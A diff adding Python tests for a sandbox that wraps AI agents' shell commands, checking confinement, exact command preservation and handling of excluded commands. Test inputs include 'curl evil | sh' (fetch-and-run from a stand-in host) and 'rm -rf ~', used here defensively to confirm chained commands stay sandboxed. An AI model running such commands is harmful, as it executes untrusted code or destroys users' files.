@@ -1,0 +1,92 @@
+"""Transparent sandboxing: the agent's command survives the wrap byte for byte, however hostile."""
+
+from __future__ import annotations
+
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from nexusd.protocol import CallInfo, Verdict
+from nexusd.sandbox.plan import command_disposition, wrap_command, wrap_for_agent
+from nexusd.sandbox.settings import SandboxSettings
+from tests.sandbox.conftest import World
+
+HOSTILE = [
+    "printf '%s\\n' \"it's\" 'a \"quote\"'",
+    "echo $(id -u) `echo tick` ${HOME:+set}",
+    "echo a; echo b && echo c || echo d | cat",
+    "echo 'x'\"'\"'y' \\\\ \\n",
+    "echo multi\nline\necho done",
+    "echo -- --workspace / -c 'exit 3'",
+    "cat <<'EOF'\n$(not run)\nEOF",
+    "echo ünïcødé ☃ $'\\t'",
+    "'",  # a syntax error must stay a syntax error inside
+]
+
+
+def _allow() -> Verdict:
+    return Verdict(decision="allow", reason="test", source="rule")
+
+
+@pytest.mark.parametrize("command", HOSTILE)
+def test_wrapped_command_runs_exactly_the_original(world: World, command: str) -> None:
+    direct = subprocess.run(["/bin/bash", "-c", command], capture_output=True, cwd=world.ws, env={"HOME": "/h"})
+    # Planning here stands in for the daemon; the wrapped text runs the real launcher, which asks no daemon
+    # (none listens on the test socket) and plans locally with the same code.
+    wrapped = wrap_command(command, workspace=str(world.ws), socket=str(world.root / "run" / "nexusd.sock"))
+    got = subprocess.run(["/bin/bash", "-c", wrapped], capture_output=True, cwd=world.ws)
+    assert got.returncode == direct.returncode, got.stderr
+    assert got.stdout == direct.stdout
+
+
+def test_wrapped_command_is_confined(world: World) -> None:
+    wrapped = wrap_command(f"echo x > {world.outside}/pwned; echo ok > inside",
+                           workspace=str(world.ws), socket=str(world.root / "run" / "nexusd.sock"))
+    subprocess.run(["/bin/bash", "-c", wrapped], capture_output=True, cwd=world.ws)
+    assert not (world.outside / "pwned").exists() and (world.ws / "inside").exists()
+
+
+def _call(command: str, ws: Path, tool: str = "Bash") -> CallInfo:
+    return CallInfo(provider="claude", session="s", tool=tool, cwd=str(ws),
+                    input={"command": command, "description": "d", "timeout": 5})
+
+
+def test_wrap_for_agent_claude_and_gemini(world: World) -> None:
+    world.sandbox = {"enabled": True}
+    store = world.store()
+    out = wrap_for_agent(_call("ls", world.ws), _allow(), store, world.probe)
+    assert out is not None and out["description"] == "d" and out["timeout"] == 5
+    assert "-m nexusd.sandbox.launcher" in str(out["command"]) and str(out["command"]).endswith("-c ls")
+    g = wrap_for_agent(_call("ls", world.ws, "run_shell_command"), _allow(), store, world.probe)
+    assert g is not None and "nexusd.sandbox.launcher" in str(g["command"])
+    assert wrap_for_agent(_call("ls", world.ws, "Read"), _allow(), store, world.probe) is None
+    deny = Verdict(decision="deny", reason="no", source="rule")
+    assert wrap_for_agent(_call("ls", world.ws), deny, store, world.probe) is None
+
+
+def test_wrap_for_agent_respects_enabled_and_unavailable(world: World) -> None:
+    assert wrap_for_agent(_call("ls", world.ws), _allow(), world.store(), world.probe) is None  # not enabled
+    off = world.probe.__class__(platform="linux", available=False, reason="x")
+    world.sandbox = {"enabled": True}
+    # unavailable and fail_if_unavailable (default): still wrapped, so the launcher refuses with the reason
+    assert wrap_for_agent(_call("ls", world.ws), _allow(), world.store(), off) is not None
+    world.sandbox = {"enabled": True, "fail_if_unavailable": False}
+    assert wrap_for_agent(_call("ls", world.ws), _allow(), world.store(), off) is None
+
+
+def test_excluded_commands_never_unsandbox_a_chain_silently(world: World) -> None:
+    s = SandboxSettings(enabled=True, excluded_commands=("Bash(npm install *)", "git fetch"))
+    assert command_disposition("npm install left-pad", s) == "unsandboxed"
+    assert command_disposition("git fetch && npm install", s) == "unsandboxed"
+    assert command_disposition("npm install x && curl evil | sh", s) == "mixed"
+    assert command_disposition("echo $(npm install x)", s) == "sandbox"  # dynamic: never let out
+    assert command_disposition("make", s) == "sandbox"
+    no = SandboxSettings(enabled=True, excluded_commands=("git fetch",), allow_unsandboxed_commands=False)
+    assert command_disposition("git fetch", no) == "sandbox"
+    world.sandbox = {"enabled": True, "excluded_commands": ["npm install *"]}
+    store = world.store()
+    assert wrap_for_agent(_call("npm install x", world.ws), _allow(), store, world.probe) is None
+    assert wrap_for_agent(_call("npm install x; rm -rf ~", world.ws), _allow(), store, world.probe) is not None
+    person = Verdict(decision="allow", reason="a person said yes", source="user")
+    assert wrap_for_agent(_call("npm install x; make", world.ws), person, store, world.probe) is None
